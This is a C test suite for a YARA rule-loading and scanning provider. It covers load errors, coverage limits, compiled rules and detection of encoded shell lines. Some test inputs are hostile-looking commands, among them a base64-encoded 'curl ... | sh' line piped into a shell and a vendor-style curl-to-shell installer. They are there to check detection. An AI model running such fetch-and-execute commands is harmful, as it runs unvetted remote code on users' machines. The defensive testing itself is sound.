/* The yara provider: what loads, what does not and how it says so, what a match comes to. */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
#include <yara.h>

#include "module_host.h"
#include "testing.h"

static struct module_host host;
static char folder[64];

/* A module is never unloaded. What was loaded stays in reach, so that a leak checker sees the rest.
 */
static void *states[64];
static size_t n_states;

#define RULE(name, text) "rule " name " { strings: $a = \"" text "\" condition: $a }\n"

static int group_set_up(void **state)
{
    module_host_open(&host, YARA_MODULE);
    return 0;
}

static int set_up(void **state)
{
    strcpy(folder, "/tmp/test-yara-XXXXXX");
    return mkdtemp(folder) ? 0 : -1;
}

static int tear_down(void **state)
{
    char command[128];

    snprintf(command, sizeof(command), "rm -rf '%s'", folder);
    return system(command);
}

static const char *path_of(const char *name)
{
    static char path[256];

    snprintf(path, sizeof(path), "%s/%s", folder, name);
    return path;
}

static void put(const char *name, const void *bytes, size_t n)
{
    FILE *file = fopen(path_of(name), "we");

    assert_non_null(file);
    assert_int_equal(fwrite(bytes, 1, n, file), n);
    assert_int_equal(fclose(file), 0);
}

static void put_text(const char *name, const char *text)
{
    put(name, text, strlen(text));
}

static void assert_fails(const char *definitions, const char *part, const char *other_part)
{
    assert_int_equal(module_host_load(&host, definitions, NULL), -1);
    if (!strstr(host.load.failure, part) || !strstr(host.load.failure, other_part)) {
        fail_msg("'%s' lacks '%s' or '%s'", host.load.failure, part, other_part);
    }
    assert_null(strchr(host.load.failure, '\n'));
}

static void assert_loads(const char *definitions)
{
    if (module_host_load(&host, definitions, NULL) < 0) {
        fail_msg("%s", host.load.failure);
    }
    assert_true(n_states < sizeof(states) / sizeof(states[0]));
    states[n_states++] = host.state;
}

static void each_file_is_a_namespace_of_its_own(void **state)
{
    struct pes_scan scan;

    put_text("a.yar", RULE("Same_Name", "needle-a"));
    assert_int_equal(mkdir(path_of("deep"), 0700), 0);
    put_text("deep/b.yara", RULE("Same_Name", "needle-b"));
    put_text("readme.txt", "this is no rule");
    put_text(".hidden.yar", "nor is this");
    assert_loads(folder);
    assert_string_equal(host.load.note, "2 rules in 2 files");
    assert_non_null(strstr(host.load.version, "2 rules, "));
    assert_int_equal(module_host_scan_text(&host, &scan, "xx needle-b"), 0);
    assert_int_equal(scan.n_findings, 1);
    assert_string_equal(scan.findings[0].detection, "Same_Name");
    assert_string_equal(scan.findings[0].rule_id, "deep/b.yara:Same_Name");
    assert_int_equal(scan.findings[0].offset, 3);
    assert_int_equal(scan.findings[0].length, 8);
    assert_string_equal(scan.findings[0].what, "a");
    assert_int_equal(scan.coverage, PES_COVERAGE_FULL);
    assert_int_equal(scan.n_examined, 11);
}

static void several_folders_are_told_apart(void **state)
{
    char paths[512];
    struct pes_scan scan;

    assert_int_equal(mkdir(path_of("one"), 0700), 0);
    assert_int_equal(mkdir(path_of("two"), 0700), 0);
    put_text("one/r.yar", RULE("R", "needle"));
    put_text("two/r.yar", RULE("R", "needle"));
    snprintf(paths, sizeof(paths), "%s/one/:%s/two:%s/one", folder, folder, folder);
    assert_loads(paths);
    assert_int_equal(module_host_scan_text(&host, &scan, "needle"), 0);
    assert_int_equal(scan.n_findings, 3);
    assert_string_equal(scan.findings[0].rule_id, "one/r.yar:R");
    assert_string_equal(scan.findings[1].rule_id, "one/r.yar!2:R");
    assert_string_equal(scan.findings[2].rule_id, "two/r.yar:R");
}

static void the_version_follows_names_and_contents(void **state)
{
    char first[64];

    put_text("a.yar", RULE("R", "needle"));
    assert_loads(folder);
    strcpy(first, host.load.version);
    assert_loads(folder);
    assert_string_equal(host.load.version, first);
    put_text("a.yar", RULE("R", "needles"));
    assert_loads(folder);
    assert_string_not_equal(host.load.version, first);
}

static void metadata_comes_to_verdict_and_the_rest(void **state)
{
    struct pes_scan scan;
    const struct pes_sample *samples;

    put_text("m.yar", "rule M { meta: verdict = \"suspicious\" severity = \"low\" score = 55 "
                      "malware_family = \"Fam\" mitre_att = \"T1059\" advice = \"ask_sender\" "
                      "decode = \"base64\" pes_sample = \"the needle\" strings: $a = \"needle\" "
                      "condition: $a }");
    assert_loads(folder);
    assert_int_equal(module_host_scan_text(&host, &scan, "needle ZWNobyBoZWxsbyBmcm9tIGEgdGVzdAo="),
                     0);
    assert_int_equal(scan.findings[0].verdict, PES_VERDICT_SUSPICIOUS);
    assert_int_equal(scan.findings[0].severity, PES_SEVERITY_LOW);
    assert_int_equal(scan.findings[0].confidence, 55);
    assert_int_equal(scan.findings[0].advice, PES_ADVICE_ASK_SENDER);
    assert_string_equal(scan.findings[0].family, "Fam");
    assert_string_equal(scan.findings[0].technique, "T1059");
    assert_string_equal(scan.decoded, "echo hello from a test\n");
    assert_int_equal(host.provider->samples(host.state, &samples), 1);
    assert_int_equal(samples[0].n_bytes, 10);
    assert_int_equal(samples[0].verdict, PES_VERDICT_SUSPICIOUS);
}

static void private_rules_are_not_reported_and_global_ones_hold(void **state)
{
    struct pes_scan scan;

    put_text("p.yar", "private " RULE("Hidden", "needle") "global private rule Small { condition: "
                                                          "filesize < 20 } rule Shown { condition: "
                                                          "Hidden }");
    assert_loads(folder);
    assert_int_equal(module_host_scan_text(&host, &scan, "needle"), 0);
    assert_int_equal(scan.n_findings, 1);
    assert_string_equal(scan.findings[0].detection, "Shown");
    assert_int_equal(module_host_scan_text(&host, &scan, "needle in much more hay than that"), 0);
    assert_int_equal(scan.n_findings, 0);
}

static void what_rules_print_goes_nowhere(void **state)
{
    struct pes_scan scan;

    put_text("c.yar", "import \"console\" rule C { condition: console.log(\"hello\") }");
    assert_loads(folder);
    assert_int_equal(module_host_scan_text(&host, &scan, "x"), 0);
    assert_int_equal(scan.n_findings, 1);
    assert_int_equal(scan.coverage, PES_COVERAGE_FULL);
}

static void no_time_left_is_partial_coverage(void **state)
{
    struct pes_scan scan = {.bytes = "needle", .n_bytes = 6, .time_left_us = 0};

    put_text("a.yar", RULE("R", "needle"));
    assert_loads(folder);
    assert_int_equal(host.provider->scan(host.state, &scan), 0);
    assert_int_equal(scan.coverage, PES_COVERAGE_PARTIAL_TIME);
    assert_int_equal(scan.n_examined, 0);
}

static void a_scan_that_takes_too_long_gives_up(void **state)
{
    size_t n = 64 << 20;
    char *content = malloc(n);
    struct pes_scan scan = {.bytes = content, .n_bytes = n, .time_left_us = 20000};

    assert_non_null(content);
    memset(content, 'n', n);
    put_text("a.yar", RULE("R", "needle"));
    assert_loads(folder);
    assert_int_equal(host.provider->scan(host.state, &scan), 0);
    assert_int_equal(scan.coverage, PES_COVERAGE_PARTIAL_TIME);
    assert_int_equal(module_host_scan_text(&host, &scan, "needle"), 0);
    assert_int_equal(scan.coverage, PES_COVERAGE_FULL);
    assert_int_equal(scan.n_findings, 1);
    free(content);
}

static void too_many_matches_of_a_string_are_partial_coverage(void **state)
{
    size_t n = 3 << 20;
    char *content = malloc(n);
    struct pes_scan scan;

    assert_non_null(content);
    memset(content, 'a', n);
    put_text("a.yar", RULE("R", "aaaa"));
    assert_loads(folder);
    assert_int_equal(module_host_scan(&host, &scan, content, n), 0);
    assert_int_equal(scan.coverage, PES_COVERAGE_PARTIAL_DEPTH);
    free(content);
}

static void a_syntax_error_names_file_and_line(void **state)
{
    put_text("good.yar", RULE("R", "needle"));
    put_text("bad.yar", "\n\nrule Broken { condition: }\n");
    assert_fails(folder, "/bad.yar:3: syntax error", "mend the rule or take the file away");
}

static void errors_in_several_files_are_counted_and_the_first_is_shown(void **state)
{
    put_text("a.yar", "rule A { condition: }");
    put_text("b.yar", RULE("R", "needle"));
    put_text("c.yar", "rule C {");
    assert_fails(folder, "/a.yar:1: ", "(first of 2 errors)");
}

static void an_include_is_refused(void **state)
{
    put_text("other.txt", RULE("R", "needle"));
    put_text("a.yar", "// one\ninclude \"other.txt\"\n");
    assert_fails(folder, "/a.yar:2: ", "includes are refused");
}

static void a_variable_from_outside_is_refused(void **state)
{
    put_text("a.yar", "rule A\n{\n condition:\n  filename == \"x\"\n}");
    assert_fails(folder, "/a.yar:4: undefined identifier", "no variables from outside");
}

static void a_module_that_opens_files_is_refused(void **state)
{
    put_text("a.yar",
             "// about \"pe\"\nimport \"magic\"\nrule A { condition: magic.type() contains "
             "\"PE\" }");
    assert_fails(folder, "/a.yar:2: the module magic", "take the rules that use it away");
}

static void an_unknown_module_is_refused(void **state)
{
    put_text("a.yar", "import \"nosuch\"\n");
    assert_fails(folder, "/a.yar:1: ", "nosuch");
}

static void rubbish_is_refused(void **state)
{
    put("a.yar", "rule A { condition: true }\n\0\x7f\x45\x4c\x46", 32);
    assert_fails(folder, "/a.yar:2: not text", "take the file away");
}

static void a_missing_folder_is_refused(void **state)
{
    assert_fails(path_of("nowhere"), "/nowhere: does not exist", "correct `definitions`");
}

static void no_definitions_at_all_are_refused(void **state)
{
    assert_fails(NULL, "no folder given", "set `definitions`");
}

static void an_empty_folder_is_refused(void **state)
{
    assert_fails(folder, ": no rules in it", "put *.yar");
}

static void files_without_rules_are_refused(void **state)
{
    put_text("a.yar", "// nothing yet\n");
    assert_fails(folder, "no rule in 1 files", "put rules there");
}

static void an_unreadable_file_is_refused(void **state)
{
    if (geteuid() == 0) { /* who may read everything: a link to nowhere serves as well */
        assert_int_equal(symlink("/nonexistent", path_of("a.yar")), 0);
    } else {
        put_text("a.yar", RULE("R", "needle"));
        assert_int_equal(chmod(path_of("a.yar"), 0), 0);
    }
    assert_fails(folder, "/a.yar: cannot be read", "the provider's user must be able to");
}

static void a_fifo_is_refused(void **state)
{
    assert_int_equal(mkfifo(path_of("a.yar"), 0600), 0);
    assert_fails(folder, "/a.yar: not a regular file", "take it away");
}

/* With yarac's namespace if none is named. "outside" is a variable, wherever it is used. */
static void compile_to(const char *name, const char *space, const char *source)
{
    YR_COMPILER *compiler;
    YR_RULES *rules;

    assert_int_equal(yr_compiler_create(&compiler), ERROR_SUCCESS);
    if (strstr(source, "outside")) {
        assert_int_equal(yr_compiler_define_integer_variable(compiler, "outside", 1), 0);
    }
    assert_int_equal(yr_compiler_add_string(compiler, source, space), 0);
    assert_int_equal(yr_compiler_get_rules(compiler, &rules), ERROR_SUCCESS);
    assert_int_equal(yr_rules_save(rules, path_of(name)), ERROR_SUCCESS);
    yr_rules_destroy(rules);
    yr_compiler_destroy(compiler);
}

static void compiled_rules_are_loaded_beside_source(void **state)
{
    struct pes_scan scan;

    compile_to("c.yarc", "compiled", RULE("Compiled", "needle"));
    put_text("s.yar", RULE("Source", "needle"));
    assert_loads(folder);
    assert_string_equal(host.load.note, "2 rules in 2 files");
    assert_int_equal(module_host_scan_text(&host, &scan, "needle"), 0);
    assert_int_equal(scan.n_findings, 2);
    assert_non_null(module_host_found(&scan, "Compiled"));
    assert_non_null(module_host_found(&scan, "Source"));
}

static const char *rule_id_of(const struct pes_scan *scan, size_t i)
{
    return i < scan->n_findings ? scan->findings[i].rule_id : "nothing";
}

static void rules_of_compiled_files_are_told_apart_by_file(void **state)
{
    struct pes_scan scan;

    compile_to("a.yarc", NULL, RULE("Same", "needle"));
    compile_to("b.yarc", NULL, RULE("Same", "needle"));
    compile_to("c.yarc", "own", RULE("Same", "needle"));
    assert_loads(folder);
    assert_int_equal(module_host_scan_text(&host, &scan, "needle"), 0);
    assert_string_equal(rule_id_of(&scan, 0), "a.yarc:Same");
    assert_string_equal(rule_id_of(&scan, 1), "b.yarc:Same");
    assert_string_equal(rule_id_of(&scan, 2), "c.yarc:own:Same");
}

static void compiled_rules_with_a_variable_from_outside_are_refused(void **state)
{
    compile_to("c.yarc", "outside", "rule R { condition: outside == 1 }");
    assert_fails(folder, "/c.yarc: compiled with the variable 'outside' from outside",
                 "compile it without");
}

static void compiled_rules_that_use_a_module_that_opens_files_are_refused(void **state)
{
    compile_to("c.yarc", NULL,
               "import \"magic\" rule M { condition: magic.type() contains \"PE\" }");
    assert_fails(folder, "the module magic", "take the rules that use it away");
}

static void compiled_rules_of_another_version_are_refused(void **state)
{
    compile_to("c.yarc", "compiled", RULE("Compiled", "needle"));
    {
        FILE *file = fopen(path_of("c.yarc"), "r+e");

        assert_non_null(file);
        assert_int_equal(fseek(file, 4, SEEK_SET), 0);
        assert_int_equal(fputc(99, file), 99);
        assert_int_equal(fclose(file), 0);
    }
    assert_fails(folder, "/c.yarc: compiled by another version of yara", "compile it again");
}

static void rubbish_called_compiled_is_refused(void **state)
{
    put_text("c.yarc", "this was never compiled");
    assert_fails(folder, "/c.yarc: not a file of compiled rules", "give the source");
    put_text("c.yarc", "YARA");
    assert_fails(folder, "/c.yarc: ", "give the source");
}

static void a_single_file_of_any_name_is_loaded(void **state)
{
    put_text("rules", RULE("R", "needle"));
    assert_loads(path_of("rules"));
    assert_string_equal(host.load.note, "1 rule in 1 file");
}

static void the_rules_that_ship_find_their_own_samples(void **state)
{
    const struct pes_sample *samples;
    struct pes_scan scan;
    size_t n;

    assert_loads(SHIPPED_RULES);
    assert_null(strstr(host.load.note, "not understood"));
    n = host.provider->samples(host.state, &samples);
    assert_true(n >= 14);
    for (size_t i = 0; i < n; i++) {
        assert_int_equal(module_host_scan(&host, &scan, samples[i].bytes, samples[i].n_bytes), 0);
        assert_true(scan.n_findings > 0);
        for (size_t j = 0; j < scan.n_findings; j++) {
            assert_int_equal(scan.findings[j].verdict, samples[i].verdict);
        }
    }
}

static void a_rule_that_misses_its_own_sample_is_refused(void **state)
{
    put_text("a.yar",
             "rule A { meta: pes_sample = \"hay\" strings: $a = \"needle\" condition: $a }");
    assert_fails(folder, "/a.yar: rule A does not find its own pes_sample", "mend");
}

static void that_another_rule_finds_its_sample_excuses_no_rule(void **state)
{
    put_text("a.yar",
             "rule First { meta: verdict = \"suspicious\" strings: $a = \"hay\" condition: "
             "$a } rule Broken { meta: pes_sample = \"hay\" strings: $a = \"needle\" "
             "condition: $a }");
    assert_fails(folder, "/a.yar: rule Broken does not find its own pes_sample", "mend");
}

static void a_sample_that_other_rules_judge_otherwise_is_not_given(void **state)
{
    const struct pes_sample *samples;

    put_text("a.yar",
             "rule A { meta: pes_sample = \"needle\" verdict = \"suspicious\" strings: $a = "
             "\"needle\" condition: $a } rule B { meta: pes_sample = \"pin\" strings: $a = "
             "\"pin\" condition: $a } rule C { condition: filesize == 6 }");
    assert_loads(folder);
    assert_int_equal(host.provider->samples(host.state, &samples), 1);
    assert_int_equal(samples[0].n_bytes, 3);
}

static void an_encoded_line_is_shown_decoded(void **state)
{
    const struct module_host_finding *finding;
    struct pes_scan scan;

    assert_loads(SHIPPED_RULES);
    assert_int_equal(
        module_host_scan_text(
            &host, &scan, "echo Y3VybCAtcyBodHRwczovL2ZpbGVzLmV4YW1wbGUvYSB8IHNo | base64 -d|sh"),
        0);
    finding = module_host_found(&scan, "Encoded_Into_Shell");
    assert_non_null(finding);
    assert_int_equal(finding->verdict, PES_VERDICT_MALICIOUS);
    assert_int_equal(finding->advice, PES_ADVICE_READ_DECODED);
    assert_string_equal(scan.decoded, "curl -s https://files.example/a | sh");
}

/* Both are run, and the one that is found first must not be all that is shown. */
static void one_encoding_does_not_hide_another(void **state)
{
    struct pes_scan scan;

    assert_loads(SHIPPED_RULES);
    assert_int_equal(
        module_host_scan_text(&host, &scan,
                              "echo ZWNobyBoZWxsbyBmcm9tIGEgdGVzdA== | base64 -d | sh; "
                              "echo 6563686f2068656c6c6f | xxd -r -p | sh"),
        0);
    assert_string_equal(scan.decoded, "echo hello from a test\necho hello");
}

static void everyday_commands_are_left_alone(void **state)
{
    static const char *const lines[] = {
        "ls -la | sort | head",
        "curl -fsSLO https://files.example/archive.tar.gz && tar xf archive.tar.gz",
        "curl -s https://api.example/v1 | jq .name",
        "git log --oneline | grep -v merge | wc -l",
        "echo aGVsbG8gd29ybGQK | base64 -d",
        "base64 -d key.b64 > key.bin",
        "python3 -m http.server 8000",
        "ssh host 'sudo systemctl restart service'",
        "for f in *.sh; do shellcheck \"$f\"; done",
        "eval \"$(ssh-agent -s)\"",
        "nc -zv host.example 443",
        "xxd -r dump.hex > dump.bin",
        "powershell -NoProfile -Command Get-Date",
    };
    struct pes_scan scan;

    assert_loads(SHIPPED_RULES);
    for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
        assert_int_equal(module_host_scan_text(&host, &scan, lines[i]), 0);
        if (scan.n_findings > 0) {
            fail_msg("%s: %s", scan.findings[0].detection, lines[i]);
        }
    }
}

/* Vendors publish them: they may ask, but never block. */
static void a_vendors_installer_is_suspicious_at_most(void **state)
{
    struct pes_scan scan;

    assert_loads(SHIPPED_RULES);
    assert_int_equal(
        module_host_scan_text(&host, &scan,
                              "curl --proto '=https' --tlsv1.2 -sSf https://sh.example/init | sh"),
        0);
    assert_int_equal(scan.n_findings, 1);
    assert_int_equal(scan.findings[0].verdict, PES_VERDICT_SUSPICIOUS);
}

#define CASE(name) cmocka_unit_test_setup_teardown(name, set_up, tear_down)

int main(void)
{
    const struct CMUnitTest tests[] = {
        CASE(each_file_is_a_namespace_of_its_own),
        CASE(several_folders_are_told_apart),
        CASE(the_version_follows_names_and_contents),
        CASE(metadata_comes_to_verdict_and_the_rest),
        CASE(private_rules_are_not_reported_and_global_ones_hold),
        CASE(what_rules_print_goes_nowhere),
        CASE(no_time_left_is_partial_coverage),
        CASE(a_scan_that_takes_too_long_gives_up),
        CASE(too_many_matches_of_a_string_are_partial_coverage),
        CASE(a_syntax_error_names_file_and_line),
        CASE(errors_in_several_files_are_counted_and_the_first_is_shown),
        CASE(an_include_is_refused),
        CASE(a_variable_from_outside_is_refused),
        CASE(a_module_that_opens_files_is_refused),
        CASE(an_unknown_module_is_refused),
        CASE(rubbish_is_refused),
        CASE(a_missing_folder_is_refused),
        CASE(no_definitions_at_all_are_refused),
        CASE(an_empty_folder_is_refused),
        CASE(files_without_rules_are_refused),
        CASE(an_unreadable_file_is_refused),
        CASE(a_fifo_is_refused),
        CASE(compiled_rules_are_loaded_beside_source),
        CASE(rules_of_compiled_files_are_told_apart_by_file),
        CASE(compiled_rules_with_a_variable_from_outside_are_refused),
        CASE(compiled_rules_that_use_a_module_that_opens_files_are_refused),
        CASE(compiled_rules_of_another_version_are_refused),
        CASE(rubbish_called_compiled_is_refused),
        CASE(a_single_file_of_any_name_is_loaded),
        CASE(the_rules_that_ship_find_their_own_samples),
        CASE(a_rule_that_misses_its_own_sample_is_refused),
        CASE(that_another_rule_finds_its_sample_excuses_no_rule),
        CASE(a_sample_that_other_rules_judge_otherwise_is_not_given),
        CASE(an_encoded_line_is_shown_decoded),
        CASE(one_encoding_does_not_hide_another),
        CASE(everyday_commands_are_left_alone),
        CASE(a_vendors_installer_is_suspicious_at_most),
    };

    return cmocka_run_group_tests(tests, group_set_up, NULL);
}
